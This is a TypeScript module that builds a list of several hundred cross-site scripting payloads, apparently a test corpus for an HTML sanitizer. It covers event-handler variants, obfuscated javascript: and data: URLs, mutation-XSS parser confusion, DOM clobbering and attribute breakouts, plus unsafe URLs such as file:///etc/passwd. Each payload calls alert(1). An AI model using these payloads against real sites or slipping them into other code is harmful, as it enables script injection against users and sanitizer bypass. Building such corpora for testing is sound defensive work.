/** A text that tries to run code if it is used as markup, and its kind of trick. */
export interface Payload {
  readonly trick: string
  readonly html: string
}

// Each calls `alert(1)` when it runs. Derived from the rules of HTML parsing: elements × handlers, protocols ×
// attributes, and the places where a parser switches its mode.

const code = 'alert(1)'

const handlers = [
  ...['img src=x onerror', 'img src=/ onload', 'svg onload', 'body onload', 'body onpageshow', 'html onmouseover'],
  ...['input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'button autofocus onfocus'],
  ...[
    'video src=x onerror',
    'audio src=x onerror',
    'video><source onerror',
    'details open ontoggle',
    'marquee onstart',
  ],
  ...[
    'iframe onload',
    'object data=x onerror',
    'embed src=x onload',
    'style onload',
    'link rel=stylesheet href=x onerror',
  ],
  ...[
    'p tabindex=1 autofocus onfocus',
    'custom-x tabindex=1 autofocus onfocus',
    'p popover onbeforetoggle',
    'dialog open onclose',
  ],
  ...[
    'p style="animation:a" onanimationstart',
    'p style="transition:1s" ontransitionend',
    'p oncontentvisibilityautostatechange',
  ],
  ...['svg><animate attributeName=x dur=1s onbegin', 'svg><set attributeName=x onend', 'svg><image href=x onerror'],
  ...[
    'math><mtext onpointerenter',
    'svg><a onclick',
    'isindex type=image src=x onerror',
    'input type=image src=x onerror',
  ],
]

const spellings = [
  (handler: string) => `<${handler}=${code}>`,
  (handler: string) => `<${handler}="${code}">`,
  (handler: string) => `<${handler.toUpperCase()}='${code}'>`,
  (handler: string) => `<${handler.replaceAll(' ', '/')}\n=\n${code}//`,
  (handler: string) => `<${handler.replaceAll(' ', '\f')}=&#97;lert&lpar;1&rpar;>x`,
]

const protocols = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script&colon;alert(1)',
  '&#1;javascript:alert(1)',
  '&#x6A;avascript&#x3A;alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>parent.alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=',
  'vbscript:alert(1)',
]

const addressed = [
  (url: string) => `<a href="${url}">a</a>`,
  (url: string) => `<map name=m><area href="${url}" shape=default></map><img usemap=#m src=x>`,
  (url: string) => `<form action="${url}"><button>b</button></form>`,
  (url: string) => `<form><input type=submit formaction="${url}"></form>`,
  (url: string) => `<svg><a href="${url}"><text>a</text></a></svg>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>a</text></a></svg>`,
  (url: string) => `<svg><use href="${url}#x"/></svg>`,
  (url: string) => `<svg><a><animate attributeName=href values="${url}"/><text>a</text></a></svg>`,
  (url: string) => `<svg><a><animate attributeName=xlink:href values="#;${url}"/><text>a</text></a></svg>`,
  (url: string) => `<svg><a><set attributeName=href to="${url}"/><text>a</text></a></svg>`,
  (url: string) => `<math href="${url}"><mi>x</mi></math>`,
  (url: string) => `<math><maction actiontype="statusline" xlink:href="${url}">x</maction></math>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<iframe srcdoc="<a href='${url}'>a</a><script>parent.alert(1)</script>"></iframe>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<base href="${url}"><a href=x>a</a>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<link rel=import href="${url}">`,
  (url: string) => `<script src="${url}"></script>`,
]

const confused = [
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT\n>',
  '<script/x>alert(1)</script/x>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<math><script>alert(1)</script></math>',
  '<script type=module>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>"></style></h1>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<svg><desc><noembed><img src=x onerror=alert(1)></noembed></desc></svg>',
  '<svg><foreignObject><math><mi><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<select><iframe></select><img src=x onerror=alert(1)>',
  '<table><td><form><math><mtext><table></form><style></math><img src=x onerror=alert(1)>',
  '<noembed><p id="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p id="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<xmp><p id="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe><p id="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<textarea><p id="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p id="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '</p title="><img src=x onerror=alert(1)>',
  '<p title="`><img src=x onerror=alert(1)>`">',
  '<a href="x:\u2028javascript:alert(1)" onclick\u0000=alert(1)>a</a>',
  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
  `${'<svg><desc>'.repeat(200)}<style><img src=x onerror=alert(1)>`,
  `<b ${'x '.repeat(2000)}onclick=alert(1)>b</b>`,
]

const clobbering = [
  '<form onclick=alert(1)><input name=attributes></form>',
  '<form onclick=alert(1)><input name=removeAttribute><input name=removeAttributeNode></form>',
  '<form onclick=alert(1)><input name=parentNode><input name=remove><input name=childNodes></form>',
  '<form onclick=alert(1)><input name=nodeName><input name=namespaceURI><input name=localName></form>',
  '<form id=x onclick=alert(1)></form><input form=x name=attributes>',
  '<img name=createElement><img name=currentScript><img name=body><img src=x onerror=alert(1)>',
  '<a id=Skerry></a><a id=Skerry name=react href="javascript:alert(1)"></a>',
  '<iframe name=alert srcdoc="<script>parent.alert(1)</script>"></iframe>',
]

// For texts that are inserted into an attribute, a script, a text or a template before they are parsed.
const breaking = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onpointerenter=alert(1) autofocus onfocus=alert(1) tabindex=1 x="',
  "' onpointerenter=alert(1) x='",
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</textarea></title></style></noscript></template><img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  `$${'{alert(1)}'}`,
  'url(javascript:alert(1))',
  'expression(alert(1))',
  '\u202e<img src=x onerror=alert(1)>',
  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '＜img src=x onerror=alert(1)＞',
]

const named = (trick: string, texts: readonly string[]): Payload[] => texts.map((html) => ({ trick, html }))

/** All payloads, a few hundred. */
export const payloads: readonly Payload[] = [
  ...named('an element that is a script, or is taken for something else', confused),
  ...handlers.flatMap((handler) =>
    named(
      'a handler',
      spellings.map((spell) => spell(handler)),
    ),
  ),
  ...addressed.flatMap((write) => named('an address', protocols.map(write))),
  ...named('a name that hides the element’s own', clobbering),
  ...named('a text that breaks out', breaking),
]

/** URLs that run code, or are otherwise unsafe, when followed. */
export const runningAddresses: readonly string[] = [
  ...protocols.map((url) => url.replace('&Tab;', '\t').replace('&NewLine;', '\n').replace('&colon;', ':')),
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'javas\u0000cript:alert(1)',
  '\\\\evil.example@javascript:alert(1)',
  'blob:https://site.example/1',
  'filesystem:https://site.example/1',
  'about:srcdoc',
  'file:///etc/passwd',
  'https://user:secret@evil.example/',
]
